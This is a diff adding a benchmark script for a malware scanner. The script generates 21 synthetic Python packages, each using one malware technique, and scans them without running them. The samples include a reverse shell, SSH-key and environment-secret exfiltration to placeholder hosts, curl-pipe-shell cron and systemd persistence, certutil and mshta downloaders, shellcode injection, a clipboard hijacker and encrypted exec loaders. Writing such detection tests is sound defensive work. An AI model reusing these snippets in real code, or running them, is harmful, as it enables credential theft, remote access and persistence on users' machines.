@@ -1,0 +1,148 @@
+#!/usr/bin/env bash
+# Generalisation probe: 21 small synthetic packages, each using one malware technique of
+# recent campaigns (written from public reports, not taken from the corpus), scanned with
+# default settings. Prints one line per technique: verdict, score, rules. The packages are
+# written to a temporary folder and scanned as unpacked folders; nothing is run.
+# Usage: bench/technique-probe.sh
+set -euo pipefail
+cd "$(dirname "$0")/.."
+cargo build --release -q -p malgraph
+bin=$PWD/target/release/malgraph
+dir=$(mktemp -d)
+trap 'rm -rf "$dir"' EXIT
+cd "$dir"
+mk() { # name; the package's __init__.py on stdin
+  mkdir -p "$1-1.0/$1"
+  printf 'from setuptools import setup\nsetup(name="%s", version="1.0", packages=["%s"])\n' "$1" "$1" > "$1-1.0/setup.py"
+  cat > "$1-1.0/$1/__init__.py"
+}
+mk xorexec <<'EOF'
+import base64
+_k = b'k3y'
+_d = base64.b64decode('AwAKBgwfXxwKHhwIV1c=')
+def _x(d, k):
+    return bytes(b ^ k[i % len(k)] for i, b in enumerate(d))
+exec(_x(_d, _k))
+EOF
+mk fernetexec <<'EOF'
+from cryptography.fernet import Fernet
+key = b'ZmDfcTF7_60GrrY167zsiPd67pEvs0aGOv2oasOM1Pg='
+token = b'gAAAAABkxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx=='
+exec(Fernet(key).decrypt(token))
+EOF
+mk rawgh <<'EOF'
+import urllib.request
+exec(urllib.request.urlopen('https://raw.githubusercontent.com/someone/tools/main/p.py').read().decode())
+EOF
+mk tgenv <<'EOF'
+import os, requests
+TOKEN = '6123456789:AAHdqTcvCH1vGWJxfSeofSAs0K5PALDsaw'
+requests.post(f'https://api.telegram.org/bot{TOKEN}/sendMessage', data={'chat_id': '12345', 'text': str(dict(os.environ))})
+EOF
+mk dropexe <<'EOF'
+import base64, os, subprocess, tempfile
+data = base64.b64decode('TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAgAAAAA==')
+p = os.path.join(tempfile.gettempdir(), 'svc.exe')
+with open(p, 'wb') as f:
+    f.write(data)
+subprocess.Popen([p], creationflags=0x00000008)
+EOF
+mk compilezlib <<'EOF'
+import zlib, base64
+code = compile(zlib.decompress(base64.b64decode('eJwrKMrMK9EwVNAEAA2fA0Q=')), '<string>', 'exec')
+exec(code)
+EOF
+mk runpydl <<'EOF'
+import runpy, tempfile, os, urllib.request
+p = os.path.join(tempfile.gettempdir(), 'x.py')
+urllib.request.urlretrieve('http://198.51.100.7/x.py', p)
+runpy.run_path(p)
+EOF
+mk shellcode <<'EOF'
+import ctypes, base64
+sc = base64.b64decode('/EiD5PDozAAAAEFRQVBSUVZIMdJlSItSYEiLUhhIi1IgSItyUEgPt0pKTTHJSDHArDxhfAIsIEHByQ1BAcHi7VJBUUiLUiCLQjxIAdBm')
+ptr = ctypes.windll.kernel32.VirtualAlloc(0, len(sc), 0x3000, 0x40)
+ctypes.windll.kernel32.RtlMoveMemory(ptr, sc, len(sc))
+h = ctypes.windll.kernel32.CreateThread(0, 0, ptr, 0, 0, 0)
+ctypes.windll.kernel32.WaitForSingleObject(h, -1)
+EOF
+mk pyarmored <<'EOF'
+# Pyarmor 8.5.2 (trial), 000000, 2024-03-01T00:00:00.000000
+from .pyarmor_runtime_000000 import __pyarmor__
+__pyarmor__(__name__, __file__, b'PY000000\x00\x03\x0b\x00\xa7\x0d\x0d\x0a\x80\x00\x01\x00\x08\x00\x00\x00\x04\x00\x00\x00\x40\x00\x00\x00\x01\x99\x00\x00\x12\x09\x04\x00\x4e\x96\x8f\xdc\x6c\x95\x12\x94')
+EOF
+mk envpost <<'EOF'
+import os, json, urllib.request, socket, getpass
+data = json.dumps({'h': socket.gethostname(), 'u': getpass.getuser(), 'aws': os.environ.get('AWS_SECRET_ACCESS_KEY'), 'gh': os.environ.get('GITHUB_TOKEN')}).encode()
+urllib.request.urlopen(urllib.request.Request('https://collector.example-oast.fun/c', data=data))
+EOF
+mk dnsexfil <<'EOF'
+import socket, os, binascii
+h = binascii.hexlify(os.getlogin().encode()).decode()
+socket.gethostbyname(h + '.x.oastify.com')
+EOF
+mk pycload <<'EOF'
+import importlib.util, os
+spec = importlib.util.spec_from_file_location('core', os.path.join(os.path.dirname(__file__), 'core.pyc'))
+mod = importlib.util.module_from_spec(spec)
+spec.loader.exec_module(mod)
+EOF
+printf '\x55\x0d\x0d\x0a\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\xe3' > pycload-1.0/pycload/core.pyc
+mk shippedtxt <<'EOF'
+import os
+exec(open(os.path.join(os.path.dirname(__file__), 'data.txt')).read())
+EOF
+printf 'import os\nos.system("curl http://198.51.100.9/x | sh")\n' > shippedtxt-1.0/shippedtxt/data.txt
+mk certutil <<'EOF'
+import os
+os.system('certutil -urlcache -split -f http://198.51.100.9/u.exe %TEMP%\\u.exe && start %TEMP%\\u.exe')
+EOF
+mk mshta <<'EOF'
+import subprocess
+subprocess.Popen('mshta http://198.51.100.9/p.hta', shell=True)
+EOF
+mk cronpersist <<'EOF'
+import os
+os.system('(crontab -l; echo "*/5 * * * * curl -s http://198.51.100.9/c | bash") | crontab -')
+EOF
+mk sshsteal <<'EOF'
+import os, requests
+key = open(os.path.expanduser('~/.ssh/id_rsa')).read()
+requests.post('http://198.51.100.9/k', data={'k': key})
+EOF
+mk smtpexfil <<'EOF'
+import smtplib, os, socket
+s = smtplib.SMTP('smtp.gmail.com', 587)
+s.starttls(); s.login('a@gmail.com', 'pw')
+s.sendmail('a@gmail.com', 'b@gmail.com', str(dict(os.environ)) + socket.gethostname())
+EOF
+mk cliphijack <<'EOF'
+import re, time, pyperclip, threading
+BTC = '1BoatSLRHtKNngkdXEeobR76b53LETtpyT'
+def loop():
+    while True:
+        c = pyperclip.paste()
+        if re.match(r'^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$', c):
+            pyperclip.copy(BTC)
+        time.sleep(1)
+threading.Thread(target=loop, daemon=True).start()
+EOF
+mk systemd <<'EOF'
+import os
+unit = "[Service]\nExecStart=/usr/bin/python3 /opt/.cache/agent.py\nRestart=always\n[Install]\nWantedBy=multi-user.target\n"
+open('/etc/systemd/system/sys-update.service', 'w').write(unit)
+os.system('systemctl enable --now sys-update.service')
+EOF
+mk revshellpy <<'EOF'
+import socket, subprocess, os
+s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
+s.connect(('198.51.100.9', 4444))
+os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1); os.dup2(s.fileno(), 2)
+subprocess.call(['/bin/sh', '-i'])
+EOF
+for d in */; do
+  "$bin" scan --format json --fail-on suspicious "$d" 2>/dev/null | python3 -c '
+import json, sys
+d = json.loads(sys.stdin.readline())
+print("%-14s %-10s %6.2f %s" % (sys.argv[1].rstrip("/"), d["verdict"], d["score"], " ".join(sorted({f["rule"] for f in d["findings"]}))))' "$d" || true
+done
